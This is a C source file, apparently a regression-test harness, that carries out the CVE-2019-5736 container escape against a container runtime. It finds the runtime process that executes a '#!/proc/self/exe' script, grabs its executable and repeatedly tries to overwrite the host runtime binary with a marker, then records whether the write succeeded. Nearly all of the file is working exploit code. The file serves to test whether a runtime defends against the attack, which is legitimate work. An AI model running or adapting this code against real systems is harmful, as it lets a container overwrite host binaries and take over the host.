/* CVE-2019-5736 as a container would try it.
 *
 * Usage: exe-attacker SCRIPT RESULT [SECONDS]
 *
 * Waits (inotify) until SCRIPT -- a file starting with "#!/proc/self/exe" --
 * is executed by somebody, finds the process it became (any process whose
 * /proc/PID/exe is not busybox and not this program: the runtime's binary
 * run as the script's interpreter), stops it, opens its exe, kills it, and
 * then tries for up to SECONDS (default 10) to reopen that exe for writing
 * through /proc/self/fd and replace it with a marker. What happened is written to
 * RESULT, one word first:
 *   WROTE    the host binary was written (the attack worked)
 *   REFUSED  <errno text>: caught the binary, every write was refused
 *   MISSED   never caught a process (the test cannot judge)
 * and the program exits 0 (the verdict is the test's). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/select.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void report(const char *path, const char *fmt, const char *arg) {
  FILE *f = fopen(path, "w");
  if (!f) return;
  fprintf(f, fmt, arg);
  fputc('\n', f);
  fclose(f);
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

/* A process that is neither busybox nor us: returns its pid, stopped. */
static int find_victim(const char *self) {
  DIR *d = opendir("/proc");
  if (!d) return -1;
  struct dirent *e;
  int found = -1;
  while ((e = readdir(d))) {
    int pid = atoi(e->d_name);
    if (pid <= 0 || pid == getpid()) continue;
    char link[64], target[4096];
    snprintf(link, sizeof link, "/proc/%d/exe", pid);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n <= 0) continue;
    target[n] = 0;
    if (strstr(target, "busybox") || strcmp(target, self) == 0) continue;
    kill(pid, SIGSTOP);
    found = pid;
    break;
  }
  closedir(d);
  return found;
}

/* Waits until the stopped `victim` is stopped for real (SIGSTOP takes
 * hold when it returns to user space, that is once an execve under way is
 * complete: only then is its exe the interpreter), then opens its exe.
 * Returns the descriptor, or -1. */
static int grab_exe(int victim) {
  char stat[64], line[512];
  snprintf(stat, sizeof stat, "/proc/%d/stat", victim);
  for (int i = 0; i < 1000; i++) {
    FILE *f = fopen(stat, "r");
    if (!f) return -1;
    char *ok = fgets(line, sizeof line, f);
    fclose(f);
    char *p = ok ? strrchr(line, ')') : NULL;
    if (p && (p[2] == 'T' || p[2] == 't')) break;
    usleep(1000);
  }
  char link[64];
  snprintf(link, sizeof link, "/proc/%d/exe", victim);
  return open(link, O_PATH | O_CLOEXEC);
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  const char *script = argv[1], *result = argv[2];
  double seconds = argc > 3 ? atof(argv[3]) : 10;
  char self[4096];
  ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
  if (n <= 0) return 2;
  self[n] = 0;
  int in = inotify_init1(IN_CLOEXEC);
  if (in < 0 || inotify_add_watch(in, script, IN_OPEN) < 0) {
    report(result, "SETUP %s", strerror(errno));
    return 0;
  }
  /* Ready: the test waits for this file before it triggers the exec. */
  char ready[4200];
  snprintf(ready, sizeof ready, "%s.ready", result);
  report(ready, "%s", "ready");
  /* Each execution of the script (for 30 s at most): look for the process
   * it became for a while. A busy machine may not schedule us before a
   * short-lived victim is gone; the next execution is another chance. */
  char buf[4096];
  int victim = -1, fd = -1;
  double deadline = now() + 30;
  while (fd < 0 && now() < deadline) {
    struct timeval tv = {1, 0};
    fd_set set;
    FD_ZERO(&set);
    FD_SET(in, &set);
    if (select(in + 1, &set, NULL, NULL, &tv) <= 0) continue;
    (void)!read(in, buf, sizeof buf);
    double until = now() + 0.5;
    while (fd < 0 && now() < until) {
      victim = find_victim(self);
      if (victim < 0) continue;
      fd = grab_exe(victim);
      if (fd < 0) {
        /* Gone already, or caught before its execve (the runtime's own
         * child, which nobody may open): let it go on, look again. */
        kill(victim, SIGCONT);
      }
    }
  }
  if (fd < 0) {
    report(result, "MISSED %s", "no process ran the interpreter in 30 s");
    return 0;
  }
  kill(victim, SIGKILL);
  /* O_TRUNC makes the kernel check the mount (EROFS) and the seals
   * (EPERM) before the "being executed" check (ETXTBSY), so a protected
   * binary says so at once. An unprotected one is busy while the host
   * runs it, and writable once nobody executes it any more: keep trying. */
  char again[64];
  snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
  double stop = now() + seconds;
  int last = 0;
  while (now() < stop) {
    int w = open(again, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (w >= 0) {
      ssize_t k = write(w, "PWNED\n", 6);
      close(w);
      if (k == 6) {
        report(result, "WROTE %s", "the host binary");
        return 0;
      }
      last = errno;
    } else {
      last = errno;
      if (last != ETXTBSY) break;
    }
    usleep(20000);
  }
  report(result, "REFUSED %s", strerror(last));
  return 0;
}
